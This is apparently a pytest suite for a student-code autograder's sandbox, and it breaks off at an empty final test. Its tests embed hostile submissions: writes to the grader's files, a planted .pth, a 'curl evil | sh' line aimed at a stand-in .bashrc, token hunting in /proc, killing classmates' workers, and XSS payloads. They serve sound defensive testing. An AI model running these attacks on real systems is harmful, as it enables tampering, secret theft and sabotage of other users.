"""Attacks on the grader's files, on classmates and on later runs: each must fail, in every mode.

Each test is one attack a submission can make (issue "filesystem and cross-student isolation").
They run with every layer the machine allows, with the namespaces turned off (Landlock, or the
uid drop, then carries the file-system isolation), and in the fork server of batch grading. The
attacks target only files and processes the test itself made or the grader's own: where a layer
were missing, the test fails without harming the machine.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import site
import sysconfig
import textwrap
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from grader import grade, sandbox
from grader.core.report import validate
from grader.model import DEFAULT_SEED
from grader.render.formats import Page
from grader.sandbox import SKIP_LAYERS_VARIABLE

from .conftest import SUBMISSIONS, notebook, run_cli

pytestmark = pytest.mark.e2e  # starts child processes: the slow tier

CORRECT = (SUBMISSIONS / "attention" / "correct_matmul.py").read_text()
BUGGY = (SUBMISSIONS / "attention" / "scale_by_dk.py").read_text()
GRADER_ROOT = Path(sandbox.__file__).resolve().parents[2]  # holds grader/ and reference/
FILESYSTEM_LAYERS = {"read-only-root", "landlock", "unprivileged-uid"}


#: the layers each mode refuses the child (the CI also runs this file where the kernel itself
#: refuses namespaces, and Landlock, see tests/restricted.py)
MODES = {"all-layers": "", "no-namespaces": "namespaces",
         # (as root: the uid drop is the only file system layer; otherwise the grader refuses)
         "uid-only": "namespaces,landlock", "fork-server": ""}


@pytest.fixture(autouse=True, params=list(MODES))
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch):
    if MODES[request.param]:
        monkeypatch.setenv(SKIP_LAYERS_VARIABLE, MODES[request.param])
    sandbox.use_fork_server(request.param == "fork-server")
    yield request.param
    sandbox.use_fork_server(False)


def _grade(tmp_path: Path, source: str, name: str = "attention.py", *,
           refusal_skips: bool = True, **options) -> dict:
    """Grade ``source``; a mode the grader refuses here (no filesystem layer) skips the test,
    unless the refusal is what it looks at."""
    path = tmp_path / "submission" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(source)
    report = grade(path, assignment="attention", **options)
    validate(report)
    if refusal_skips and [e["kind"] for e in report["errors"]] == ["isolation-unavailable"]:
        pytest.skip("no filesystem layer in this mode here: the grader refuses to run")
    return report


def _isolated(report: dict) -> bool:
    layers = set(report["metadata"]["isolation"])
    if not layers & FILESYSTEM_LAYERS:
        pytest.skip("no filesystem layer here: the grader refuses to run (tested below)")
    return True


def _digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            digest.update(str(path).encode() + path.read_bytes())
    return digest.hexdigest()


def _attempt(action: str) -> str:
    """Code that tries ``action`` and prints `done` or `refused` (any error), then goes on."""
    return (f"try:\n{textwrap.indent(action, '    ')}\n    print('done')\n"
            "except Exception as exc:\n    print('refused', type(exc).__name__)\n")


def test_the_grader_package_and_rubrics_cannot_be_rewritten(tmp_path: Path) -> None:
    before = _digest(GRADER_ROOT / "grader")
    targets = [GRADER_ROOT / "grader" / "scoring.py", GRADER_ROOT / "grader" / "__init__.py",
               *sorted(GRADER_ROOT.glob("assignments/*/rubric.json"))]
    attack = "".join(_attempt(f"open({str(t)!r}, 'a').write('\\nSCORE = 10\\n')")
                     for t in targets)
    report = _grade(tmp_path, "import os\n" + attack + BUGGY)
    _isolated(report)
    assert _digest(GRADER_ROOT / "grader") == before
    assert "done" not in report["metadata"]["stdout"].split()
    # (the tripwire also names the attempt: reaching the grader's files refuses grading)
    assert report["score"] < report["max_score"]


def test_no_pth_file_reaches_site_packages(tmp_path: Path) -> None:
    folders = {*site.getsitepackages(), sysconfig.get_paths()["purelib"]}
    names = [Path(f) / f"zz_attack_{os.getpid()}.pth" for f in folders]
    attack = "".join(_attempt(f"open({str(n)!r}, 'w').write('import os; os.system(\"true\")')")
                     for n in names)
    report = _grade(tmp_path, attack + CORRECT)
    _isolated(report)
    assert not [n for n in names if n.exists()]
    assert report["score"] == report["max_score"]


def test_files_of_the_graders_user_cannot_be_written_or_read(tmp_path: Path) -> None:
    """A stand-in for ~/.bashrc and a classmate's file: both the grader's user's, outside the
    submission's folder."""
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("# the grader's shell\n")
    classmate = tmp_path / "class" / "bob.py"
    classmate.parent.mkdir()
    classmate.write_text(CORRECT)
    attack = (_attempt(f"open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')")
              + _attempt(f"open({str(classmate)!r}, 'w').write('# wiped\\n')")
              + _attempt(f"exec(open({str(classmate)!r}).read())"))
    report = _grade(tmp_path, "import os\n" + attack + BUGGY)
    _isolated(report)
    assert bashrc.read_text() == "# the grader's shell\n"
    assert classmate.read_text() == CORRECT
    assert report["metadata"]["stdout"].split().count("done") == 0
    assert report["score"] < report["max_score"]  # the classmate's code never ran in its place


def test_no_file_outlives_the_run(tmp_path: Path) -> None:
    tag = f"ag-attack-{os.getpid()}-{time.monotonic_ns()}"
    places = [Path(p) / tag for p in ("/tmp", "/var/tmp", "/dev/shm") if os.path.isdir(p)]
    attack = "".join(_attempt(f"open({str(p)!r}, 'wb').write(b'x' * 4096)") for p in places)
    report = _grade(tmp_path, attack + CORRECT)
    _isolated(report)
    assert [p for p in places if p.exists()] == []
    assert report["score"] == report["max_score"]


@pytest.mark.parametrize("environment", ["kept", "cleared"])
def test_no_process_outlives_a_deep_chain_of_children(tmp_path: Path, environment: str) -> None:
    """31 sleeping processes, each in a session of its own; "cleared": without the run's marker
    in their environment either."""
    tag = f"ag-chain-{os.getpid()}-{time.monotonic_ns()}"
    env = "{}" if environment == "cleared" else "os.environ"
    chain = textwrap.dedent(f"""\
        import os, time
        def descend(depth):
            if os.fork() == 0:
                os.setsid()
                if depth:
                    descend(depth - 1)
                os.execve("/bin/sleep", [{tag!r}, "300"], {env})
        try:
            descend(30)
        except OSError:
            pass
        """)
    report = _grade(tmp_path, chain + CORRECT)
    _isolated(report)
    assert report["score"] == report["max_score"], report["errors"]
    time.sleep(0.2)
    left = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if tag.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
                    left.append(name)
            except OSError:
                pass
    assert left == []


def test_a_forged_frame_is_a_crash_of_that_submission(tmp_path: Path) -> None:
    forge = textwrap.dedent("""\
        import gc, json, os, struct
        def forge(header):
            channel = next(o for o in gc.get_objects()
                           if type(o).__name__ == "Channel" and hasattr(o, "nonce"))
            header["nonce"] = channel.nonce
            payload = json.dumps(header).encode()
            os.write(channel.fd, struct.pack("<4sIQ", b"AGF1", len(payload), 0) + payload)
        _real = None
        """)
    call = ("    forge({'type': 'result', 'index': 0, 'status': 'ok', 'seconds': 'soon',\n"
            "           'arrays': [{'role': 'output', 'dtype': '<f8', 'shape': [0],\n"
            "                       'offset': 'x', 'nbytes': 0}]})\n"
            "    os._exit(0)\n")
    source = forge + CORRECT + ("\n_correct = scaled_dot_product_attention\n"
                                "def scaled_dot_product_attention(Q, K, V, mask=None):\n" + call)
    report = _grade(tmp_path, source)
    assert report["status"] in ("graded", "error")
    assert "crashed" in [e["kind"] for e in report["errors"]]
    assert report["score"] < report["max_score"]
    loaded = forge + "forge({'type': 'loaded', 'functions': 5, 'signatures': [1], " \
                     "'errors': 'x', 'fatal': 3, 'tripped': 7})\nos._exit(0)\n"
    report = _grade(tmp_path, loaded)
    assert report["status"] == "error" and report["score"] == 0


def test_hostile_seconds_in_an_otherwise_good_frame(tmp_path: Path) -> None:
    """The frame is well formed but for one field of the wrong type: still not an internal
    error of the grader."""
    source = textwrap.dedent("""\
        import gc, json, os, struct
        import numpy as np
        def scaled_dot_product_attention(Q, K, V, mask=None):
            channel = next(o for o in gc.get_objects()
                           if type(o).__name__ == "Channel" and hasattr(o, "nonce"))
            out = np.zeros(Q.shape[:-1] + V.shape[-1:]).tobytes()
            header = {"type": "result", "index": 0, "status": "ok", "seconds": "1,5",
                      "nonce": channel.nonce,
                      "arrays": [{"role": "output", "dtype": "<f8", "nbytes": len(out),
                                  "shape": list(Q.shape[:-1] + V.shape[-1:]), "offset": 0},
                                 {"role": "input:x", "dtype": "<f8", "shape": [0],
                                  "offset": 0, "nbytes": 0}]}
            payload = json.dumps(header).encode()
            os.write(channel.fd, struct.pack("<4sIQ", b"AGF1", len(payload), len(out))
                     + payload + out)
            os._exit(0)
        """)
    report = _grade(tmp_path, source)
    assert "crashed" in [e["kind"] for e in report["errors"]]


def test_the_reference_cannot_be_reached_by_a_directory_fd_or_a_hard_link(tmp_path: Path) -> None:
    reference = GRADER_ROOT / "reference"
    attack = textwrap.dedent(f"""\
        import os
        namespace = {{}}
        try:
            folder = os.open({str(reference)!r}, os.O_RDONLY | os.O_DIRECTORY)
            names = [n for n in os.listdir(folder) if n.endswith(".py")]
            for name in names:
                fd = os.open(name, os.O_RDONLY, dir_fd=folder)
                exec(os.read(fd, 1 << 20).decode(), namespace)
            print("read-by-fd")
        except Exception as exc:
            print("refused", type(exc).__name__)
        try:
            for name in os.listdir({str(reference)!r}):
                os.link(os.path.join({str(reference)!r}, name), "copy_" + name)
            print("linked")
        except Exception as exc:
            print("refused", type(exc).__name__)
        scaled_dot_product_attention = namespace.get("scaled_dot_product_attention")
        """)
    report = _grade(tmp_path, attack)
    _isolated(report)
    out = report["metadata"]["stdout"]
    assert "read-by-fd" not in out and "linked" not in out
    assert report["score"] == 0


def test_ancestors_proc_entries_are_out_of_sight(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The grader's command line (hidden seed, class folder) and environment (tokens). In a
    pid namespace of its own the run sees no process that is not its own code, but pid 1 where
    that is the namespace's init (the run's first process makes one where it makes its
    namespaces itself), which may be its parent; its command line is the submission's own, and
    nothing else of it can be read. (Where the fork server made the namespace, pid 1 is the
    submission's own process.)"""
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_secret_token_for_the_test")
    attack = textwrap.dedent(f"""\
        import os
        own = open("/proc/self/cmdline", "rb").read(4096)
        for who, pid in (("grader", {os.getpid()}), ("parent", os.getppid()), ("init", 1)):
            if pid == os.getpid():
                print("init-is-self")
                continue
            for what in ("cmdline", "environ", "mem"):
                try:
                    data = open(f"/proc/{{pid}}/{{what}}", "rb").read(4096)
                    same = what == "cmdline" and pid == 1 and pid != os.getpid() and data == own
                    print("init-cmdline-is-own" if same else "read", who, what, data[:60])
                except Exception as exc:
                    print("hidden", who, what, type(exc).__name__)
        print("TOKEN" if "ghp_secret" in str(dict(os.environ)) else "no-token")
        """)
    report = _grade(tmp_path, attack + CORRECT, seed=4242)
    out = report["metadata"]["stdout"]
    assert "ghp_secret" not in out and "no-token" in out
    if "pid-namespace" in report["metadata"]["isolation"] or "landlock" in \
            report["metadata"]["isolation"]:
        assert "read " not in out, out
        assert "4242" not in out
    assert report["score"] == report["max_score"]


def _student_pages(report: dict[str, Any], *, secret_only: bool = False) -> list[Page]:
    """What a student reads of ``report`` at once, in every student-visible format of the
    registry (``secret_only``: of the platforms that keep hidden tests secret)."""
    from grader.platforms import FORMATS

    pages = []
    for fmt in FORMATS.values():
        if fmt.student_pages is not None and (fmt.keeps_hidden_tests_secret or not secret_only):
            pages += fmt.student_pages(fmt.render(report))
    return pages


def test_exception_text_cannot_inject_markdown_or_html(tmp_path: Path) -> None:
    """Every page a student reads, in every student-visible format: text the submission wrote
    (an exception, its file's name) is shown, never applied as Markdown or HTML."""
    payload = "<img src=x onerror=alert(1)> [click](https://evil.example) | **bold** ```"
    source = CORRECT + ("\n_correct = scaled_dot_product_attention\n"
                        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
                        f"    raise ValueError({payload!r})\n")
    report = _grade(tmp_path, source, name="a`b <i>.py")
    pages = _student_pages(report)
    assert {page.markup for page in pages} >= {"markdown", "html"}
    for page in pages:
        if page.markup == "html":
            assert "<img" not in page.text and "<i>" not in page.text
        elif page.markup == "markdown":
            rendered = _outside_fences(page.text)
            assert "<img" not in rendered and "<i>" not in rendered
            assert "[click](https" not in rendered
            for line in rendered.splitlines():
                if line.startswith("|"):
                    assert line.count("|") - line.count("\\|") == 5, line


def _outside_fences(markdown: str) -> str:
    """The Markdown text that is rendered as Markdown: everything outside code fences."""
    kept, fence = [], ""
    for line in markdown.splitlines():
        marks = line[: len(line) - len(line.lstrip("`"))]
        if fence and line.strip() == fence:
            fence = ""
        elif not fence and len(marks) >= 3:
            fence = marks
        elif not fence:
            kept.append(line)
    return "\n".join(kept)


def test_hidden_probe_values_stay_out_of_what_a_secret_keeping_platform_shows(
        tmp_path: Path) -> None:
    """Every platform that keeps hidden tests secret (Gradescope's always-visible output and
    visible tests) shows at once no value the submission saw on hidden probes."""
    source = CORRECT + ("\n_correct = scaled_dot_product_attention\n"
                        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
                        "    if Q.size > 4:\n"
                        "        raise ValueError('LEAK' + repr(Q.ravel()[:3].tolist()))\n"
                        "    return _correct(Q, K, V, mask) * 1.5\n")
    report = _grade(tmp_path, source, seed=777)
    assert report["metadata"]["hidden_probes"]
    failed_hidden = [c["message"] for c in report["checks"] if c.get("hidden") and not c["passed"]]
    assert failed_hidden
    shown = [page.text for page in _student_pages(report, secret_only=True)]
    assert shown
    for text in shown:
        assert "LEAK" not in text
        for message in failed_hidden:
            assert message not in text
    public = _grade(tmp_path, source, seed=DEFAULT_SEED)
    # with public probes the student sees it
    assert any("LEAK" in page.text for page in _student_pages(public, secret_only=True))


def test_dead_children_are_reaped_after_every_grade(tmp_path: Path) -> None:
    forks = ("import os\nfor _ in range(40):\n    if os.fork() == 0:\n        os._exit(0)\n")
    for _ in range(2):
        _grade(tmp_path, forks + CORRECT)
    me = os.getpid()

    def zombies() -> list[str]:
        found = []
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    stat = Path(f"/proc/{name}/stat").read_text()
                except OSError:
                    continue
                fields = stat[stat.rfind(")") + 2:].split()
                if fields[0] == "Z" and int(fields[1]) == me:
                    found.append(stat[:60])
        return found

    # the child itself is reaped in the background once the kernel has taken down its
    # namespaces (a fraction of a second); nothing may stay
    deadline = time.monotonic() + 5
    while zombies() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert zombies() == []


@pytest.mark.parametrize("dtype", [">f8", ">f4", "longdouble"])
def test_exactly_converting_dtypes_are_accepted(tmp_path: Path, dtype: str) -> None:
    cast = "np.longdouble" if dtype == "longdouble" else repr(dtype)
    source = CORRECT + ("\n_correct = scaled_dot_product_attention\n"
                        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
                        "    output, weights = _correct(Q, K, V, mask)\n"
                        f"    return output.astype({cast}), weights.astype({cast})\n")
    report = _grade(tmp_path, source)
    assert report["errors"] == [] and report["score"] == report["max_score"]


def test_the_loader_is_linear_on_a_crafted_notebook(tmp_path: Path) -> None:
    """A cell that defeats a backtracking magic-line pattern: long runs of word characters and
    blanks with no '=' (the old pattern took minutes on 12 KB)."""
    crafted = "%matplotlib inline\n" + ("a " * 200_000) + "\n" + ("x" + " " * 100_000 + "=\n")
    started = time.monotonic()
    report = _grade(tmp_path, notebook(crafted, CORRECT), name="attention.ipynb")
    assert time.monotonic() - started < 20  # linear: well under a second of loading
    assert report["score"] == report["max_score"]


def test_notebook_lines_are_cut_as_jupyter_cuts_them(tmp_path: Path) -> None:
    """In Jupyter a U+2028 inside a comment is part of the comment; code after it never runs."""
    hidden = "def scaled_dot_product_attention(Q, K, V, mask=None): return _right(Q, K, V, mask)"
    cell = ("%matplotlib inline\n" + "_right = scaled_dot_product_attention\n"
            "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
            "    return _right(Q, K, V, mask)[0] * 2  # wrong\n"
            f"# note\u2028{hidden}\n")
    report = _grade(tmp_path, notebook(CORRECT, cell), name="attention.ipynb")
    # graded as the cell without the hidden definition: its doubled output fails the values
    shown = _grade(tmp_path, notebook(CORRECT, cell.split("\u2028")[0] + "\n"),
                   name="attention.ipynb")
    assert [(c["id"], c["passed"]) for c in report["checks"]] == [
        (c["id"], c["passed"]) for c in shown["checks"]]
    assert (report["score"], report["errors"]) == (shown["score"], shown["errors"])
    assert not [c["id"] for c in report["checks"] if c["id"].startswith("values-") and c["passed"]]


def test_without_filesystem_isolation_the_grader_refuses_unless_told(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from grader.config import DEFAULT_LIMITS

    monkeypatch.setenv(SKIP_LAYERS_VARIABLE, "namespaces,landlock,unprivileged-uid")
    report = _grade(tmp_path, CORRECT, refusal_skips=False)
    if not os.access(GRADER_ROOT / "grader", os.W_OK):
        pytest.skip("the grader's files are not writable by its user here: nothing to refuse")
    assert report["status"] == "error" and report["score"] == 0
    assert [e["kind"] for e in report["errors"]] == ["isolation-unavailable"]
    assert "--unsafe-no-fs-isolation" in report["errors"][0]["message"]
    from dataclasses import replace

    allowed = _grade(tmp_path, CORRECT,
                     limits=replace(DEFAULT_LIMITS, unsafe_no_fs_isolation=True))
    assert allowed["score"] == allowed["max_score"]
    path = tmp_path / "submission" / "attention.py"
    refused = json.loads(run_cli("grade", str(path)).stdout)
    assert [e["kind"] for e in refused["errors"]] == ["isolation-unavailable"]
    told = json.loads(run_cli("grade", str(path), "--unsafe-no-fs-isolation").stdout)
    assert told["score"] == told["max_score"]


def test_mode_layers_are_what_the_mode_says(tmp_path: Path, mode: str) -> None:
    report = _grade(tmp_path, CORRECT)
    layers = set(report["metadata"]["isolation"])
    if mode in ("no-namespaces", "uid-only"):
        assert not layers & {"pid-namespace", "mount-namespace", "read-only-root",
                             "ipc-namespace"}
        assert "no-ipc" in layers or "seccomp" not in layers
    if mode == "uid-only":
        assert "landlock" not in layers
    elif "mount-namespace" in layers:  # its own root is built wherever the namespace is had
        assert "read-only-root" in layers
    assert report["score"] == report["max_score"]
    assert np.isfinite(report["score"])


def test_a_submission_cannot_reach_its_classmates_in_a_batch(tmp_path: Path, mode: str) -> None:
    """``--jobs 2``: one submission tries to kill every other grading process it can see, to
    write into its classmates' folder and reports, and to poison the fork server's memory."""
    from grader.batch import discover, run_batch

    if mode == "fork-server":
        pytest.skip("batch grading always uses the fork server: the other modes cover it")
    folder = tmp_path / "class"
    folder.mkdir()
    out = tmp_path / "out"
    for name in ("ann", "bob", "cyd", "dan", "fay", "gus"):
        (folder / f"{name}.py").write_text(CORRECT)
    (folder / "eve.py").write_text(textwrap.dedent(f"""\
        import os, signal, time
        seen = []
        for _ in range(20):
            try:
                pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
            except OSError:
                pids = []
            for pid in pids:
                if pid in (os.getpid(), 1):
                    continue
                try:
                    line = open(f"/proc/{{pid}}/cmdline", "rb").read()
                except OSError:
                    continue
                if b"worker.py" in line or b"attention-grader" in line or b"pytest" in line:
                    try:
                        if b"--zygote" in line:
                            with open(f"/proc/{{pid}}/mem", "r+b") as mem:
                                mem.seek(0x400000)
                                mem.write(b"\\xcc" * 64)
                        os.kill(pid, signal.SIGKILL)
                        seen.append(pid)
                    except OSError:
                        pass
            for target in {str(folder)!r}, {str(out)!r}:
                try:
                    for name in os.listdir(target):
                        open(os.path.join(target, name), "w").write("# overwritten\\n")
                except OSError:
                    pass
            time.sleep(0.05)
        print("killed", len(seen))
        """) + CORRECT)
    result = run_batch(discover([str(folder)]), "attention", out, jobs=2)
    assert result.graded == 7
    _isolated(json.loads((out / "ann.json").read_text()))
    for name in ("ann", "bob", "cyd", "dan", "fay", "gus"):
        assert (folder / f"{name}.py").read_text() == CORRECT
        report = json.loads((out / f"{name}.json").read_text())
        assert report["score"] == report["max_score"], (name, report["errors"])
    eve = json.loads((out / "eve.json").read_text())
    assert "killed 0" in eve["metadata"].get("stdout", "")


# -- round three: IPC, links, frames, partial layers, tracing, budgets -------------------------

_SYSV = textwrap.dedent("""\
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    """)


def test_shared_memory_and_message_queues_do_not_connect_runs(tmp_path: Path) -> None:
    """One run leaves answers in System V shared memory, a message queue and a POSIX queue; the
    next run (a classmate) looks for them."""
    key = 0x4147_0000 + os.getpid() % 0xFFFF
    queue = f"/ag-attack-{os.getpid()}"
    leave = _SYSV + textwrap.dedent(f"""\
        shm = libc.shmget({key}, 4096, 0o1666)
        if shm >= 0:
            address = libc.shmat(shm, None, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                ctypes.memmove(address, b"ANSWERS", 7)
                print("left-shm")
        if libc.msgget({key + 1}, 0o1666) >= 0:
            print("left-msg")
        librt = ctypes.CDLL("librt.so.1", use_errno=True)
        if librt.mq_open({queue.encode()!r}, os.O_CREAT | os.O_RDWR, 0o666, None) >= 0:
            print("left-mq")
        """)
    look = _SYSV + textwrap.dedent(f"""\
        shm = libc.shmget({key}, 0, 0)
        if shm >= 0:
            address = libc.shmat(shm, None, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                print("found", ctypes.string_at(address, 7))
        if libc.msgget({key + 1}, 0) >= 0:
            print("found-msg")
        librt = ctypes.CDLL("librt.so.1", use_errno=True)
        if librt.mq_open({queue.encode()!r}, os.O_RDWR, 0, None) >= 0:
            print("found-mq")
        """)
    first = _grade(tmp_path, leave + CORRECT)
    _isolated(first)
    second = _grade(tmp_path, look + CORRECT)
    assert "found" not in second["metadata"].get("stdout", ""), second["metadata"]["stdout"]
    assert second["score"] == second["max_score"]
    sysv = Path("/proc/sysvipc/shm")
    if sysv.exists():
        assert f"{key:>10}" not in sysv.read_text() and str(key) not in sysv.read_text().split()
    assert not Path(f"/dev/mqueue{queue}").exists()


def test_an_abstract_socket_does_not_connect_runs(tmp_path: Path) -> None:
    """One run listens on abstract Unix sockets (a stream and a datagram one, also held by a
    process it forks and leaves sleeping); the next run (a classmate, which may share the first
    one's network namespace: a fork server's runs do) tries to reach them."""
    name = f"ag-attack-{os.getpid()}-{time.monotonic_ns()}"
    leave = textwrap.dedent(f"""\
        import os, socket, time
        _held = []
        for kind, suffix in ((socket.SOCK_STREAM, "s"), (socket.SOCK_DGRAM, "d")):
            try:
                held = socket.socket(socket.AF_UNIX, kind)
                held.bind("\\0{name}" + suffix)
                if kind == socket.SOCK_STREAM:
                    held.listen(8)
                _held.append(held)
                print("listening", suffix, flush=True)
            except OSError as exc:
                print("refused", exc, flush=True)
        if _held and os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        """)
    probe = textwrap.dedent(f"""\
        import socket
        for kind, suffix in ((socket.SOCK_STREAM, "s"), (socket.SOCK_DGRAM, "d")):
            try:
                probe = socket.socket(socket.AF_UNIX, kind)
                probe.connect("\\0{name}" + suffix)
                probe.send(b"ANSWERS")
                print("connected", suffix)
            except OSError as exc:
                print("blocked", suffix, exc)
        """)
    first = _grade(tmp_path, leave + probe + CORRECT)
    _isolated(first)
    said = first["metadata"].get("stdout", "")
    if "listening" not in said:
        pytest.skip(f"no abstract socket could be made here: {said}")
    # (the probe reaches them from the run that made them: it would from anywhere they reach)
    assert "connected s" in said and "connected d" in said, said
    second = _grade(tmp_path, probe + CORRECT)
    seen = second["metadata"].get("stdout", "")
    assert "blocked" in seen and "connected" not in seen, seen
    assert second["score"] == second["max_score"]


def test_a_link_to_a_classmates_file_is_not_followed_in_a_batch(tmp_path: Path,
                                                                 mode: str) -> None:
    from grader.batch import discover, run_batch

    if mode != "all-layers":
        pytest.skip("the grader's own reading: one mode is enough")
    folder, out = tmp_path / "class", tmp_path / "out"
    (folder / "ann").mkdir(parents=True)
    (folder / "ann" / "attention.py").write_text(CORRECT)
    (folder / "mal").mkdir()
    (folder / "mal" / "attention.py").symlink_to("../ann/attention.py")
    (folder / "bob.py").symlink_to(folder / "ann" / "attention.py")
    run_batch(discover([str(folder)]), "attention", out, jobs=1)
    _isolated(json.loads((out / "ann.json").read_text()))
    assert json.loads((out / "ann.json").read_text())["score"] == 10
    for copier in ("mal", "bob"):
        report = json.loads((out / f"{copier}.json").read_text())
        assert report["score"] == 0 and report["status"] == "error", copier


def test_a_link_to_a_secret_never_reaches_the_report(tmp_path: Path, mode: str) -> None:
    """A 0600 credential of the grader's user, linked from the submission: its text must not
    come back through a syntax error, in any entry point that reads a submission."""
    from grader.platforms import RENDERERS, gradescope

    if mode != "all-layers":
        pytest.skip("the grader's own reading: one mode is enough")
    secret = tmp_path / "home" / ".token"
    secret.parent.mkdir()
    secret.write_text("ghp_THE_TOKEN_LINE = 1 +\n")
    secret.chmod(0o600)
    submission = tmp_path / "submission"
    submission.mkdir()
    (submission / "attention.py").symlink_to(secret)
    report = grade(submission / "attention.py", assignment="attention")
    validate(report)
    assert "THE_TOKEN" not in json.dumps(report)
    assert report["status"] == "error"
    results = gradescope.run(tmp_path, {"assignment": "attention", "seed": 0})
    assert "THE_TOKEN" not in results.read_text()
    action = run_cli("check", str(submission / "attention.py"))
    assert "THE_TOKEN" not in action.stdout + action.stderr
    assert "THE_TOKEN" not in RENDERERS["text"](report)


@pytest.mark.parametrize("malformed", ["deep", "wide", "type"])
def test_any_malformed_frame_is_a_crash_of_that_submission(tmp_path: Path,
                                                           malformed: str) -> None:
    header = {"deep": "'[' * 600_000",
              "wide": "'{\"a\": 1' + ', \"a\": 1' * 120_000 + '}'",
              "type": "'[1, 2, 3]'"}[malformed]
    source = textwrap.dedent(f"""\
        import gc, os, struct
        def scaled_dot_product_attention(Q, K, V, mask=None):
            channel = next(o for o in gc.get_objects()
                           if type(o).__name__ == "Channel" and hasattr(o, "nonce"))
            payload = ({header}).encode()
            os.write(channel.fd, struct.pack("<4sIQ", b"AGF1", len(payload), 0) + payload)
            os._exit(0)
        """)
    report = _grade(tmp_path, source)
    assert "crashed" in [e["kind"] for e in report["errors"]], report["errors"]
    assert report["score"] == 0


def test_a_correct_submission_may_write_in_its_own_folder(tmp_path: Path) -> None:
    """Each layer is set up as intended or named missing, never silently partial (the uid drop
    once came before Landlock's rules, which then left out the run's own folder)."""
    writes = textwrap.dedent("""\
        import os, sys, tempfile
        open("notes.txt", "w").write("scratch")
        os.makedirs("plots", exist_ok=True)
        open(os.path.join("plots", "a.txt"), "w").write("x")
        # by absolute path too (the import system, tempfile): reachable as the run's own uid
        open(os.path.join(os.getcwd(), "plots", "b.txt"), "w").write("y")
        with tempfile.NamedTemporaryFile("w") as scratch:
            scratch.write("z")
        os.makedirs("helpers", exist_ok=True)
        open("helpers/__init__.py", "w").write("VALUE = 1\\n")
        sys.path.insert(0, os.getcwd())
        import helpers
        assert helpers.VALUE == 1
        """)
    call = ("\n_right = scaled_dot_product_attention\n"
            "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
            "    open('calls.log', 'a').write('.')\n"
            "    return _right(Q, K, V, mask)\n")
    report = _grade(tmp_path, writes + CORRECT + call)
    _isolated(report)
    assert report["errors"] == [] and report["score"] == report["max_score"]


def test_the_next_run_finds_nothing_of_the_run_before(tmp_path: Path) -> None:
    """A run leaves files in its folder and its /tmp and prints a secret; the next run of the
    same process (whose folder may be the same, when nothing of the first was written in it)
    finds none of them, and its report shows none of the first run's output."""
    leave = textwrap.dedent("""\
        import os, tempfile
        open("left-behind.txt", "w").write("ANSWERS")
        open(os.path.join(tempfile.gettempdir(), "left-in-tmp.txt"), "w").write("ANSWERS")
        print("FIRST-RUN-SECRET")
        """)
    look = textwrap.dedent("""\
        import os, tempfile
        print("here:", sorted(os.listdir(".")), sorted(os.listdir(tempfile.gettempdir())))
        """)
    (tmp_path / "first").mkdir()
    (tmp_path / "second").mkdir()
    first = _grade(tmp_path / "first", leave + CORRECT)
    _isolated(first)
    assert "FIRST-RUN-SECRET" in first["metadata"].get("stdout", "")
    second = _grade(tmp_path / "second", look + CORRECT)
    seen = second["metadata"].get("stdout", "")
    assert "here:" in seen and "left-" not in seen and "FIRST-RUN-SECRET" not in seen, seen
    assert second["score"] == second["max_score"]


def test_a_run_cannot_signal_or_read_a_concurrent_run(tmp_path: Path, mode: str) -> None:
    """Two gradings at once (as ``--jobs 2`` has): the second looks for the first's worker,
    reads its /proc entries and kills it."""
    import subprocess
    import sys

    if mode == "fork-server":
        pytest.skip("covered by the batch test")
    victim_source = ("import time\n" + CORRECT +
                     "\n_right = scaled_dot_product_attention\n"
                     "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
                     "    time.sleep(0.1)\n    return _right(Q, K, V, mask)\n")
    attacker = textwrap.dedent("""\
        import os, signal, time
        hits = []
        def pids():
            try:
                return os.listdir("/proc")
            except OSError:
                return []
        for _ in range(60):
            for name in pids():
                if not name.isdigit() or int(name) in (os.getpid(), 1):
                    continue
                try:
                    line = open(f"/proc/{name}/cmdline", "rb").read()
                except OSError:
                    continue
                if b"worker.py" not in line:
                    continue
                for what in ("environ", "cwd/attention.py"):
                    try:
                        open(f"/proc/{name}/{what}", "rb").read()
                        hits.append("read " + what)
                    except OSError:
                        pass
                try:
                    os.kill(int(name), signal.SIGKILL)
                    hits.append("killed")
                except OSError:
                    pass
            time.sleep(0.03)
        print("hits", len(hits), sorted(set(hits)))
        """)
    victim_path = tmp_path / "victim" / "attention.py"
    victim_path.parent.mkdir()
    victim_path.write_text(victim_source)
    victim = subprocess.Popen([sys.executable, "-m", "grader", "grade", str(victim_path),
                               "-a", "attention"], stdout=subprocess.PIPE, text=True)
    try:
        time.sleep(0.3)
        report = _grade(tmp_path, attacker + CORRECT)
    finally:
        out, _ = victim.communicate(timeout=120)
    _isolated(report)
    assert "hits 0" in report["metadata"]["stdout"], report["metadata"]["stdout"]
    victim_report = json.loads(out)
    assert victim_report["score"] == victim_report["max_score"], victim_report["errors"]


def test_the_hidden_seed_is_on_no_command_line_a_run_can_read(tmp_path: Path) -> None:
